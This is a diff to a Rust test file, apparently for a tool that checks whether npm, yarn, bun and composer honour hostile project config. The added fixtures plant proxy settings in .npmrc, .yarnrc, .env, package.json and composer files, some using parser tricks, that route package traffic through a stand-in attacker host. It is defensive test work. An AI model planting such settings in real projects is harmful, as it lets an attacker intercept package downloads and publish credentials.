@@ -40,6 +40,19 @@ fn javascript() {
             Project { hostile: VARIABLE, shown_is_noted: true, ..NPM },
             Project { hostile: PROXY, applied_is_told: true, ..NPM },
             Project { hostile: &[(".npmrc", "\"\\u0070roxy\" = http://{evil}/\n")], applied_is_told: true, ..NPM },
+            Project { hostile: &[(".npmrc", "proxy[]=http://{evil}/\n")], applied_is_told: true, ..NPM },
+            Project { hostile: &[(".npmrc", "a=b\rproxy=http://{evil}/\n")], applied_is_told: true, ..NPM },
+            Project {
+                permission: Permission::ReadWrite,
+                files: &[],
+                hostile: &[(
+                    "package.json",
+                    r#"{"name":"ours","version":"1.0.0","publishConfig":{"proxy":"http://{evil}/"}}"#,
+                )],
+                script: "npm publish --fetch-retries=0 || npm publish --fetch-retries=0 ..",
+                applied_is_told: true,
+                ..NPM
+            },
             Project { hostile: REGISTRY, ..pnpm },
             Project { hostile: VARIABLE, ..pnpm },
             Project {
@@ -50,6 +63,10 @@ fn javascript() {
             Project { hostile: REGISTRY, ..yarn },
             Project { hostile: VARIABLE, shown_is_noted: true, ..yarn },
             Project { hostile: &[(".yarnrc", "proxy \"http://{evil}/\"\n")], applied_is_told: true, ..yarn },
+            Project { hostile: &[(".yarnrc", "--info.proxy \"http://{evil}/\"\n")], applied_is_told: true, ..yarn },
+            Project { hostile: &[(".yarnrc", "--proxy \"http://{evil}/\"\n")], applied_is_told: true, ..yarn },
+            Project { hostile: &[(".yarnrc", "\"--*.proxy\" \"http://{evil}/\"\n")], applied_is_told: true, ..yarn },
+            Project { hostile: &[(".env", "http_proxy=http://{evil}\n")], applied_is_told: true, ..bun },
             Project { hostile: REGISTRY, ..bun },
             Project { hostile: VARIABLE, shown_is_noted: true, ..bun },
             Project { hostile: &[("bunfig.toml", "[install]\nregistry = \"http://{evil}/\"\n")], ..bun },
@@ -71,7 +88,7 @@ fn javascript() {
             },
             Project { hostile: &[(".yarnrc.yml", "httpProxy: \"http://{evil}\"\n")], applied_is_told: true, ..berry },
         ],
-        64,
+        92,
     );
 }
 
@@ -275,6 +292,30 @@ fn the_others() {
                 ..composer
             },
             Project {
+                hostile: &[(
+                    "composer.json",
+                    r#"{"repositories":[{"type":"composer","url":"http://{host}/artifactory/api/composer/composer",
+                       "options":{"http":{"proxy":"tcp://{evil}","request_fulluri":true}}},{"packagist.org":false}],
+                       "require":{"a/tiny":"*"},"config":{"secure-http":false}}"#,
+                )],
+                applied_is_told: true,
+                ..composer
+            },
+            Project {
+                files: &[("composer.json", r#"{"require":{"a/tiny":"*"},"config":{"secure-http":false}}"#)],
+                hostile: &[(
+                    "composer.lock",
+                    r#"{"content-hash":"","packages":[{"name":"a/tiny","version":"1.0.0","type":"library","dist":
+                       {"type":"zip","url":"http://{host}/artifactory/api/composer/composer/tiny.zip","reference":"",
+                       "shasum":""},"transport-options":{"http":{"proxy":"tcp://{evil}","request_fulluri":true}}}],
+                       "packages-dev":[],"aliases":[],"minimum-stability":"stable","stability-flags":[],
+                       "prefer-stable":false,"prefer-lowest":false,"platform":[],"platform-dev":[]}"#,
+                )],
+                script: "export COMPOSER_ALLOW_SUPERUSER=1\ncomposer install --no-interaction --no-plugins",
+                applied_is_told: true,
+                ..composer
+            },
+            Project {
                 hostile: &[
                     (".conanrc", "conan_home=./elsewhere\n"),
                     (
@@ -290,6 +331,6 @@ fn the_others() {
             skopeo,
             curl,
         ],
-        36,
+        44,
     );
 }
